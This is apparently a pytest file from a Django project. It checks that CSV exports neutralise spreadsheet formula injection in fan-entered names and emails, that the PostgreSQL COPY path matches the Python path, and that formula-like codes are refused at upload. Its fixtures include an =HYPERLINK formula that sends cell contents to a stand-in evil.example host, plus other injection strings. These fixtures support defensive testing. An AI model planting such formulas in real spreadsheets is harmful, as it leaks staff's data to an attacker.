"""Spreadsheet formula injection (OWASP): what fans typed reaches staff's spreadsheets as text, on the
Python path and on PostgreSQL's COPY path byte for byte; machine values (E.164 phones, ids) stay exact."""

import csv
import io

import pytest

from codes.services.inventory import Actor
from codes.services.upload import upload_codes
from exports.exporters import EXPORTERS
from exports.exporters.base import Exporter
from exports.models import Export
from exports.tests.test_exporters import world  # noqa: F401 - the shared campaign with three fans
from monoql.errors import ValidationFailed

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1, "click")'


def _poison(entries):
    a, b, c = entries
    a.fan.first_name, a.fan.last_name = HYPERLINK, "+SUM(1,2)"
    a.fan.save()
    a.email = "@evil.example"
    a.fields = {**a.fields, "email": "-2+3"}
    a.save()
    b.fan.first_name = "\tTabbed"
    b.fan.save()


@pytest.mark.parametrize("export_type", ["entries", "verifiedEntries", "scoring", "waitlist"])
def test_fan_typed_text_cannot_start_a_formula(world, export_type):  # noqa: F811
    # Given fans whose name, email and answers start formulas
    campaign, _paris, _lyon, entries, _ = world
    _poison(entries)
    export = Export.objects.create(campaign=campaign, export_type=export_type)
    # When the export is written (Python rows)
    out = io.BytesIO()
    Exporter.write(EXPORTERS[export_type](), export, out, lambda n: None)
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue().decode())) for cell in row]
    # Then no cell a person typed starts a formula, and phones keep their leading +
    typed = [cell for cell in cells if cell and cell[0] in "=+-@\t\r" and not cell[1:].replace("+", "").isdigit()]
    assert typed == []
    if export_type in ("entries", "scoring"):
        assert "'" + HYPERLINK in cells
    assert any(cell.startswith("+1212555010") for cell in cells)


@pytest.mark.parametrize("export_type", ["entries", "verifiedEntries"])
def test_the_copy_path_neutralizes_exactly_like_the_python_path(world, require_postgres, export_type):  # noqa: F811
    campaign, _paris, _lyon, entries, _ = world
    _poison(entries)
    export = Export.objects.create(campaign=campaign, export_type=export_type, include_all_markets=True)
    exporter = EXPORTERS[export_type]()
    fast, slow = io.BytesIO(), io.BytesIO()
    exporter.write(export, fast, lambda n: None)
    Exporter.write(exporter, export, slow, lambda n: None)
    assert fast.getvalue() == slow.getvalue()
    assert ("'" + HYPERLINK).replace('"', '""').encode() in fast.getvalue()


@pytest.mark.parametrize("code", ["=1+1", "+CMD", "-2", "@SUM(A1)"])
def test_a_code_that_starts_a_formula_is_refused_at_upload(world, code):  # noqa: F811
    campaign = world[0]
    with pytest.raises(ValidationFailed) as refused:
        upload_codes(campaign.pk, "tm", io.BytesIO(f"code\nOK1\n{code}\n".encode()), actor=Actor(label="test"))
    assert (refused.value.reason, refused.value.extra["line"]) == ("UNSAFE_CODE", 3)
